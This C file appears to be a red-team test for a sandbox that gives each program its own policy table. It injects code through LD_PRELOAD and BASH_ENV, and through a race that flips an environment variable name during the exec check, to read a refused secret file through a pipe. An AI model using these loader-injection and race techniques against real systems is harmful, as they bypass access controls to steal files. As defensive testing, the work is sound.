/* exec_loader.c: code the caller chose, run under another program's table (issue 11, red
 * team 3).
 *
 * A policy may give a program a table of its own: rights that program has and its caller has
 * not (a learned policy per program, `[program."..."]`).  At exec the process takes the
 * program's table.  But what runs is not only the program: the dynamic loader adds the
 * libraries the environment names (LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH...) -- which it
 * ignores only in the kernel's secure mode, for a set-user-ID exec, and no table switch sets
 * that.  A library the caller chose ran with the program's table: the refused file was read.
 *
 * Built twice: as the attack program, and with -shared -fPIC -DLIBRARY as the library, whose
 * constructor (when $LOADER_FD is set) opens $LOADER_TARGET and writes what it read -- or
 * "open: ERRNO" -- to descriptor $LOADER_FD, then lets the program run.
 *
 *   exec_loader once PROGRAM SECRET LIBRARY     exec PROGRAM with LD_PRELOAD=LIBRARY
 *   exec_loader thread PROGRAM SECRET LIBRARY   the same with a second thread alive (the exec
 *                                               then runs with the tree frozen, and held)
 *   exec_loader race PROGRAM SECRET LIBRARY     a thread turns "LD_PRELOAX=" into
 *                                               "LD_PRELOAD=" and back while exec is checked
 *   exec_loader bash_env SCRIPT SECRET FILE     exec a bash SCRIPT with BASH_ENV=FILE, a shell
 *                                               file bash runs first (interpreters load code
 *                                               from their environment too)
 *   exec_loader inherit PROGRAM SECRET          exec PROGRAM with the environment the program
 *                                               got (loader variables the user gave): it runs
 *   exec_loader badenv PROGRAM SECRET           exec PROGRAM with an environment pointer the
 *                                               kernel cannot read: EFAULT, as natively
 */
#ifdef LIBRARY
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) {
    const char *fd_text = getenv("LOADER_FD"), *target = getenv("LOADER_TARGET");
    if (!fd_text || !target)
        return;
    int out = atoi(fd_text);
    char buf[256];
    int fd = open(target, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    if (n <= 0)
        n = snprintf(buf, sizeof buf, "open: %s", strerrorname_np(errno));
    if (write(out, buf, (size_t)n) < 0)
        _exit(3);
    close(out);
}
#else
#include "attack.h"

#define RACE_ATTEMPTS 300

static char preload[4200], entry[4200], fd_env[32], target_env[4200];

/* "LD_PRELOAX=" <-> "LD_PRELOAD=": checked as one, run as the other */
static void *flipper(void *arg) {
    (void)arg;
    volatile char *name = entry;
    for (;;) {
        name[9] = 'D';
        name[9] = 'X';
    }
    return NULL;
}

static void *idle(void *arg) {
    (void)arg;
    pause();
    return NULL;
}

/* One exec of PROGRAM in a child: what its library wrote (empty: nothing) into got; the
 * child's exit status, or -errno of a failed exec. */
static int run(const char *mode, const char *program, const char *secret, const char *library,
               char *got, size_t size) {
    int fds[2];
    if (pipe(fds) < 0)
        blocked("pipe: %s", ename(errno));
    pid_t pid = fork();
    if (pid == 0) {
        close(fds[0]);
        snprintf(fd_env, sizeof fd_env, "LOADER_FD=%d", fds[1]);
        snprintf(target_env, sizeof target_env, "LOADER_TARGET=%s", secret);
        char *argv[] = {(char *)program, NULL};
        pthread_t thread;
        if (strcmp(mode, "inherit") == 0) {
            setenv("LOADER_FD", fd_env + 10, 1);
            setenv("LOADER_TARGET", secret, 1);
            execv(program, argv);
            _exit(100 + errno);
        }
        if (strcmp(mode, "race") == 0) {
            snprintf(entry, sizeof entry, "LD_PRELOAX=%s", library);
            char *env[] = {entry, fd_env, target_env, NULL};
            pthread_create(&thread, NULL, flipper, NULL);
            for (int i = 0; i < 50; i++)
                execve(program, argv, env);  /* (refused or EAGAIN: again) */
            _exit(100 + errno);
        }
        if (strcmp(mode, "badenv") == 0) {
            syscall(SYS_execve, program, argv, (char **)8);
            _exit(100 + errno);
        }
        if (strcmp(mode, "thread") == 0)
            pthread_create(&thread, NULL, idle, NULL);
        snprintf(preload, sizeof preload, "%s=%s",
                 strcmp(mode, "bash_env") == 0 ? "BASH_ENV" : "LD_PRELOAD", library);
        char *env[] = {preload, fd_env, target_env, NULL};
        execve(program, argv, env);
        _exit(100 + errno);
    }
    close(fds[1]);
    size_t have = 0;
    ssize_t n;
    while (have + 1 < size && (n = read(fds[0], got + have, size - 1 - have)) > 0)
        have += (size_t)n;
    got[have] = 0;
    close(fds[0]);
    int status;
    waitpid(pid, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) > 100)
        return -(WEXITSTATUS(status) - 100);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("exec_loader once|thread|race|bash_env|inherit|badenv PROGRAM SECRET [LIBRARY]");
    const char *mode = argv[1], *program = argv[2], *secret = argv[3];
    const char *library = argc > 4 ? argv[4] : "";
    char got[512];
    int attempts = strcmp(mode, "race") == 0 ? RACE_ATTEMPTS : 1;
    int refused = 0, ran = 0;
    for (int i = 0; i < attempts; i++) {
        int status = run(mode, program, secret, library, got, sizeof got);
        if (strstr(got, SECRET_MAGIC))
            escaped("the code the caller chose read the secret in %s (attempt %d)",
                    program, i + 1);
        if (status < 0)
            refused++;
        else
            ran++;
        if (i == 0 && got[0])
            note("the library got: %s", got);
        if (status < 0 && i == 0)
            note("exec: %s", ename(-status));
    }
    if (strcmp(mode, "inherit") == 0 && ran)
        escaped("%s ran with the environment the program got", program);
    blocked("%d execs refused, %d ran without the secret", refused, ran);
}
#endif
